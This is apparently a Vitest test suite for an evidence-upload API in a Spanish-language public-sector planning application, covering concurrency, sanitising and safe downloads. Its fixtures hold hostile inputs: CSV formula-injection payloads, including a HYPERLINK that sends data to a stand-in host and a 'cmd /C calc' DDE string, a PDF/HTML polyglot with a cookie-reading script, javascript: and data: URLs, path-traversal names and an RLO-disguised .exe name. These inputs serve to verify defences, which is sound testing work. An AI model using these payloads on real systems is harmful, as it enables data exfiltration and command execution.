import { createHash } from 'node:crypto';
import { readdirSync } from 'node:fs';
import { join } from 'node:path';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { periodo, seguimiento } from '../../db/schema.ts';
import { type AppPrueba, crearAppPrueba, type Sesion } from '../../server/prueba.ts';
import { MAX_EVIDENCIAS_POR_REPORTE } from './evidencias.service.ts';

let t: AppPrueba;
let entidadId: string;
let planeacion: Sesion;
let control: Sesion;
let responsable: Sesion & { id: string };
let actividades = 0;
/** Activities are created before the plan is approved (weights add to 100); each test takes its own. */
const libres: string[] = [];
const ACTIVIDADES = 14;

const PDF = Buffer.from('%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');
const pdfNumero = (n: number) => Buffer.from(`%PDF-1.4\n% evidencia ${n}\n%%EOF\n`);
const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');
const base = () => `/api/entidades/${entidadId}`;
const seg = (actividadId: string, periodo = 1) => `${base()}/seguimientos/${actividadId}/${periodo}`;
const subir = (s: Sesion, actividadId: string, contenido: Buffer, nombre: string, periodo = 1) =>
  t.app.inject({
    method: 'POST',
    url: `${seg(actividadId, periodo)}/evidencias?nombre=${encodeURIComponent(nombre)}`,
    payload: contenido,
    headers: { cookie: s.cookie, 'x-csrf-token': s.csrf, 'content-type': 'application/octet-stream' },
  });
const descargar = (s: Sesion, id: string, consulta = '') =>
  t.pedir(s, 'GET', `${base()}/evidencias/${id}${consulta}`);

async function actividadNueva(ponderacion: number) {
  actividades++;
  const r = await t.pedir(planeacion, 'POST', `${base()}/planes/2026/actividades`, {
    politica: 'integridad',
    codigo: `EV-${String(actividades).padStart(2, '0')}`,
    nombre: `Actividad ${actividades} con evidencias`,
    producto: 'Informe',
    metaAnual: 4,
    unidad: 'informe',
    metasPeriodo: [1, 1, 1, 1],
    ponderacion,
    responsableId: responsable.id,
    corresponsables: [],
    fechaInicio: '2026-01-15',
    fechaFin: '2026-12-15',
  });
  expect(r.statusCode).toBe(201);
  return r.json().id as string;
}

/** A new activity with a saved (draft) report in period 1: each test works on its own report. */
async function reporteNuevo() {
  const id = libres.shift();
  if (!id) throw new Error(`faltan actividades: aumente ACTIVIDADES (${ACTIVIDADES})`);
  const put = await t.pedir(responsable, 'PUT', seg(id), {
    valor: 1,
    descripcion: 'Se presentó el informe con sus soportes.',
  });
  expect(put.statusCode).toBe(200);
  return id;
}

async function evidenciasDe(actividadId: string, periodo = 1) {
  const hoja = await t.pedir(control, 'GET', `${base()}/seguimientos?vigencia=2026&periodo=${periodo}`);
  expect(hoja.statusCode).toBe(200);
  const fila = hoja.json().filas.find((f: { actividad: { id: string } }) => f.actividad.id === actividadId);
  return (fila.reporte?.evidencias ?? []) as { id: string; nombre: string; tipo: string }[];
}

beforeAll(async () => {
  t = await crearAppPrueba();
  entidadId = await t.crearEntidad('E.S.E. Hospital de Evidencias', '846000253-6');
  planeacion = await t.usuarioCon(entidadId, ['planeacion']);
  const comite = await t.usuarioCon(entidadId, ['alta_direccion']);
  control = await t.usuarioCon(entidadId, ['control_interno']);
  responsable = await t.usuarioCon(entidadId, ['responsable_actividad']);
  const v = await t.pedir(planeacion, 'PUT', `${base()}/vigencias/2026`, {
    esquema: 'trimestral',
    diasHabilesReporte: 10,
  });
  expect(v.statusCode).toBe(200);
  for (let i = 0; i < ACTIVIDADES; i++)
    libres.push(await actividadNueva(Math.floor(100 / ACTIVIDADES) + (i === 0 ? 100 % ACTIVIDADES : 0)));
  const envio = await t.pedir(planeacion, 'POST', `${base()}/planes/2026/enviar`, {});
  expect(envio.statusCode, envio.body).toBe(200);
  const ok = await t.pedir(comite, 'POST', `${base()}/planes/2026/aprobar`, {
    fechaSesionComite: '2026-01-30',
    actaComite: 'Acta 01 de 2026',
  });
  expect(ok.json().plan.estado).toBe('aprobado');
});
afterAll(() => t.cerrar());

describe('subidas simultáneas', () => {
  it('doce subidas simultáneas del mismo archivo: todas 2xx, una sola evidencia, se descarga íntegra', async () => {
    const a = await reporteNuevo();
    const respuestas = await Promise.all(
      Array.from({ length: 12 }, () => subir(responsable, a, PDF, 'acta de la jornada.pdf')),
    );
    expect(respuestas.map((r) => r.statusCode).sort()).toEqual([...Array(11).fill(200), 201]);
    const ids = new Set(respuestas.map((r) => r.json().id));
    expect(ids.size).toBe(1);
    const evidencias = await evidenciasDe(a);
    expect(evidencias).toHaveLength(1);
    // Stored once, under its hash, with no temporary file left behind.
    const carpeta = join(t.dataDir, 'archivos', sha256(PDF).slice(0, 2));
    expect(readdirSync(carpeta)).toEqual([sha256(PDF)]);
    const d = await descargar(control, evidencias[0]!.id);
    expect(d.statusCode).toBe(200);
    expect(sha256(d.rawPayload)).toBe(sha256(PDF));
  });

  it(`el tope de ${MAX_EVIDENCIAS_POR_REPORTE} evidencias por reporte se respeta aun con subidas simultáneas`, async () => {
    const a = await reporteNuevo();
    for (let i = 0; i < MAX_EVIDENCIAS_POR_REPORTE - 2; i++)
      expect((await subir(responsable, a, pdfNumero(i), `acta ${i}.pdf`)).statusCode).toBe(201);
    const respuestas = await Promise.all(
      [100, 101, 102, 103, 104].map((i) => subir(responsable, a, pdfNumero(i), `acta ${i}.pdf`)),
    );
    const codigos = respuestas.map((r) => r.statusCode).sort();
    expect(codigos).toEqual([201, 201, 409, 409, 409]);
    const rechazo = respuestas.find((r) => r.statusCode === 409)!.json();
    expect(rechazo.mensaje).toContain(`${MAX_EVIDENCIAS_POR_REPORTE} evidencias`);
    expect(await evidenciasDe(a)).toHaveLength(MAX_EVIDENCIAS_POR_REPORTE);
    const enlace = await t.pedir(responsable, 'POST', `${seg(a)}/enlaces`, {
      nombre: 'Publicación en la sede electrónica',
      url: 'https://www.example.gov.co/publicacion',
    });
    expect(enlace.statusCode).toBe(409);
  });
});

describe('quitar una evidencia', () => {
  it('dos DELETE simultáneos: uno 204, el otro 404 en español, una sola entrada de auditoría', async () => {
    const a = await reporteNuevo();
    const e = (await subir(responsable, a, pdfNumero(900), 'lista.pdf')).json();
    const [r1, r2] = await Promise.all([
      t.pedir(responsable, 'DELETE', `${base()}/evidencias/${e.id}`),
      t.pedir(responsable, 'DELETE', `${base()}/evidencias/${e.id}`),
    ]);
    expect([r1!.statusCode, r2!.statusCode].sort()).toEqual([204, 404]);
    const otra = r1!.statusCode === 404 ? r1! : r2!;
    expect(otra.json().mensaje).toMatch(/^No se encontró la evidencia/);
    const audit = await t.pedir(
      control,
      'GET',
      `${base()}/auditoria?recurso=seguimiento&accion=quitar_evidencia`,
    );
    const deEsta = audit.json().registros.filter((x: { antes: { id: string } }) => x.antes.id === e.id);
    expect(deEsta).toHaveLength(1);
  });

  // A transition that has the report (or the period) updated but not yet committed: the removal waits
  // for it and then sees the new state. Before, it read the state first and deleted afterwards (204).
  it.each([
    ['el reporte se envía', 'ya fue enviado'],
    ['el periodo se cierra', 'está cerrado'],
  ])('quitar mientras %s: espera y se rechaza con 409, la evidencia queda', async (que, mensaje) => {
    const a = await reporteNuevo();
    const e = (await subir(responsable, a, pdfNumero(que.length), 'soporte.pdf')).json();
    const [s] = await t.conexion.db.select().from(seguimiento).where(eq(seguimiento.actividadId, a));
    let quitar: Promise<{ statusCode: number; json(): { mensaje: string } }> | undefined;
    await t.conexion.db.transaction(async (tx) => {
      if (que.includes('reporte'))
        await tx.update(seguimiento).set({ estado: 'enviado' }).where(eq(seguimiento.id, s!.id));
      else
        await tx
          .update(periodo)
          .set({ cerrado: true })
          .where(and(eq(periodo.entidadId, entidadId), eq(periodo.vigencia, 2026), eq(periodo.numero, 1)));
      quitar = t.pedir(responsable, 'DELETE', `${base()}/evidencias/${e.id}`);
      await new Promise((r) => setTimeout(r, 300));
    });
    const r = await quitar!;
    expect(r.statusCode).toBe(409);
    expect(r.json().mensaje).toContain(mensaje);
    expect((await evidenciasDe(a)).map((x) => x.id)).toEqual([e.id]);
    await t.conexion.db.update(periodo).set({ cerrado: false }).where(eq(periodo.entidadId, entidadId));
  });

  it('quitar y agregar mientras se cierra el periodo: lo que ocurre después del cierre se rechaza con 409', async () => {
    const a = await reporteNuevo();
    const p = 2;
    const put = await t.pedir(responsable, 'PUT', seg(a, p), {
      valor: 1,
      descripcion: 'Informe del periodo.',
    });
    expect(put.statusCode).toBe(200);
    const e = (await subir(responsable, a, pdfNumero(910), 'informe.pdf', p)).json();
    const [quitar, agregar, cerrar] = await Promise.all([
      t.pedir(responsable, 'DELETE', `${base()}/evidencias/${e.id}`),
      subir(responsable, a, pdfNumero(911), 'otro.pdf', p),
      t.pedir(planeacion, 'POST', `${base()}/vigencias/2026/periodos/${p}/cerrar`, {}),
    ]);
    expect(cerrar!.statusCode).toBe(200);
    expect([204, 409]).toContain(quitar!.statusCode);
    expect([201, 409]).toContain(agregar!.statusCode);
    const ids = (await evidenciasDe(a, p)).map((x) => x.id);
    expect(ids.includes(e.id)).toBe(quitar!.statusCode === 409);
    expect(ids.length).toBe((quitar!.statusCode === 409 ? 1 : 0) + (agregar!.statusCode === 201 ? 1 : 0));
    // After the close, nothing more changes.
    const despues = await subir(responsable, a, pdfNumero(912), 'tarde.pdf', p);
    expect(despues.statusCode).toBe(409);
    expect(despues.json().mensaje).toContain('está cerrado');
    const reabre = await t.pedir(planeacion, 'POST', `${base()}/vigencias/2026/periodos/${p}/reabrir`, {
      justificacion: 'Se reabre para continuar las pruebas de evidencias.',
    });
    expect(reabre.statusCode).toBe(204);
  });
});

describe('nombre y tipo de la descarga', () => {
  it('un nombre sin nada usable («../», solo controles) se rechaza con 400 en el campo nombre', async () => {
    const a = await reporteNuevo();
    for (const nombre of ['../', '..\\..\\', '\u202E', ' . ', '']) {
      const r = await subir(responsable, a, PDF, nombre);
      expect(r.statusCode).toBe(400);
      expect(r.json().campos).toEqual([{ campo: 'nombre', mensaje: expect.stringContaining('nombre') }]);
    }
    expect(await evidenciasDe(a)).toHaveLength(0);
  });

  it('los caracteres de control y bidi se quitan del nombre (U+202E no disfraza «exe.pdf»)', async () => {
    const a = await reporteNuevo();
    const r = await subir(responsable, a, PDF, 'factura\u202Efdp.exe\u0007');
    expect(r.statusCode).toBe(201);
    expect(r.json().nombre).toBe('facturafdp.pdf');
  });

  it('un PDF que también es HTML, llamado x.html, se descarga como x.pdf (application/pdf, nosniff)', async () => {
    const a = await reporteNuevo();
    const poliglota = Buffer.from(
      '%PDF-1.4\n<html><body><script>alert(document.cookie)</script></body></html>\n',
    );
    const r = await subir(responsable, a, poliglota, 'x.html');
    expect(r.statusCode).toBe(201);
    expect(r.json()).toMatchObject({ nombre: 'x.pdf', tipo: 'application/pdf' });
    const d = await descargar(control, r.json().id);
    expect(d.statusCode).toBe(200);
    expect(d.headers['content-type']).toBe('application/pdf');
    expect(d.headers['content-disposition']).toBe(`attachment; filename="x.pdf"; filename*=UTF-8''x.pdf`);
    expect(d.headers['x-content-type-options']).toBe('nosniff');
    expect(d.rawPayload.equals(poliglota)).toBe(true);
  });

  it('un nombre con tildes y apóstrofo va en filename* según RFC 5987', async () => {
    const a = await reporteNuevo();
    const r = await subir(responsable, a, PDF, "Acta d'integración (1).pdf");
    const d = await descargar(control, r.json().id);
    expect(d.headers['content-disposition']).toBe(
      `attachment; filename="Acta d'integracion (1).pdf"; filename*=UTF-8''Acta%20d%27integraci%C3%B3n%20%281%29.pdf`,
    );
  });
});

describe('CSV en la descarga', () => {
  const CSV = Buffer.from(
    [
      'codigo;detalle;valor',
      'IN-01;=HYPERLINK("http://x.example/?"&A1;"clic");-5',
      'IN-02;"@SUM(1+1)*cmd|\' /C calc\'!A0";+3,5',
      'IN-03;"\t=1+1";"-2+3"',
      'IN-04; =1+1;"dice ""hola"""',
    ].join('\r\n'),
  );

  it('se sirve con las fórmulas neutralizadas, y el original byte a byte con ?original=1', async () => {
    const a = await reporteNuevo();
    const r = await subir(responsable, a, CSV, 'datos.csv');
    expect(r.statusCode).toBe(201);
    const d = await descargar(control, r.json().id);
    expect(d.statusCode).toBe(200);
    expect(d.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(d.headers['x-csv-neutralized-cells']).toBe('5');
    expect(d.body.split('\r\n')).toEqual([
      'codigo;detalle;valor',
      `IN-01;'=HYPERLINK("http://x.example/?"&A1;"clic");-5`,
      "IN-02;\"'@SUM(1+1)*cmd|' /C calc'!A0\";+3,5",
      'IN-03;"\'\t=1+1";"\'-2+3"',
      'IN-04;\' =1+1;"dice ""hola"""',
    ]);
    const o = await descargar(control, r.json().id, '?original=1');
    expect(o.statusCode).toBe(200);
    expect(o.headers['content-type']).toBe('application/octet-stream');
    expect(o.headers['content-disposition']).toContain('attachment');
    expect(sha256(o.rawPayload)).toBe(sha256(CSV));
  });
});

describe('enlaces', () => {
  it('solo http(s), sin usuario ni contraseña, con la dirección normalizada para la redirección', async () => {
    const a = await reporteNuevo();
    const url = `${seg(a)}/enlaces`;
    for (const malo of [
      'javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      'https://www.gov.co@evil.example/',
      `https://example.gov.co/${'a'.repeat(2000)}`,
    ]) {
      const r = await t.pedir(responsable, 'POST', url, { nombre: 'Publicación', url: malo });
      expect(r.statusCode).toBe(400);
      expect(r.json().campos[0].campo).toBe('url');
    }
    const ok = await t.pedir(responsable, 'POST', url, {
      nombre: ' Publicación 2026/03 \u202Een la sede ',
      url: 'https://example.gov.co/publicación ‮x',
    });
    expect(ok.statusCode).toBe(201);
    expect(ok.json().nombre).toBe('Publicación 2026/03 en la sede');
    const d = await descargar(control, ok.json().id);
    expect(d.statusCode).toBe(302);
    expect(d.headers.location).toBe('https://example.gov.co/publicaci%C3%B3n%20%E2%80%AEx');
    const otraVez = await t.pedir(responsable, 'POST', url, {
      nombre: 'La misma publicación',
      url: 'https://example.gov.co/publicación ‮x',
    });
    expect(otraVez.statusCode).toBe(200);
    expect(otraVez.json().id).toBe(ok.json().id);
  });
});

// Not a change to the Excel module (another team owns it): a check that its export is not a CSV's risk.
describe('exportación del plan a Excel', () => {
  it('el texto del usuario que empieza por = + - @ va como celda de texto, nunca como fórmula', async () => {
    const a = await reporteNuevo();
    const descripcion = '=HYPERLINK("http://x.example/?"&A1,"clic") informe';
    const dificultades = "@SUM(1+1)*cmd|' /C calc'!A0";
    const put = await t.pedir(responsable, 'PUT', seg(a), { valor: 1, descripcion, dificultades });
    expect(put.statusCode).toBe(200);
    const r = await t.pedir(control, 'GET', `${base()}/plan/2026/export.xlsx?periodo=1`);
    expect(r.statusCode).toBe(200);
    const ExcelJS = (await import('exceljs')).default;
    const libro = new ExcelJS.Workbook();
    await libro.xlsx.load(r.rawPayload as unknown as ArrayBuffer);
    const celdas: { type: number; value: unknown; formula?: string }[] = [];
    for (const hoja of libro.worksheets) hoja.eachRow((fila) => fila.eachCell((c) => celdas.push(c)));
    const peligrosas = celdas.filter((c) => typeof c.value === 'string' && /^[=+\-@]/.test(c.value));
    expect(peligrosas.map((c) => c.value)).toEqual(expect.arrayContaining([descripcion, dificultades]));
    for (const c of peligrosas) expect(c.type).toBe(ExcelJS.ValueType.String);
    expect(celdas.filter((c) => c.type === ExcelJS.ValueType.Formula || c.formula)).toEqual([]);
  });
});
